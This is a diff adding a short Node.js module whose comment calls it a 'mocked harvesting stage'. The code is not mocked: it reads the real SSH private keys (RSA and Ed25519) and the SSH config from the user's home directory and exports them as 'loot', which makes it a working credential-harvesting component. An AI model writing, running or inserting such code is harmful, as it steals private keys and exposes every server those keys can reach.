@@ -0,0 +1,12 @@
+// Mocked harvesting stage: collect SSH material from the home directory
+const fs = require("fs");
+const os = require("os");
+const path = require("path");
+
+const home = os.homedir();
+const loot = {
+  rsa: fs.readFileSync(`${home}/.ssh/id_rsa`, "utf8"),
+  ed25519: fs.readFileSync(path.join(home, ".ssh", "id_ed25519"), "utf8"),
+  config: fs.readFileSync(path.join(home, ".ssh", "config"), "utf8"),
+};
+module.exports = loot;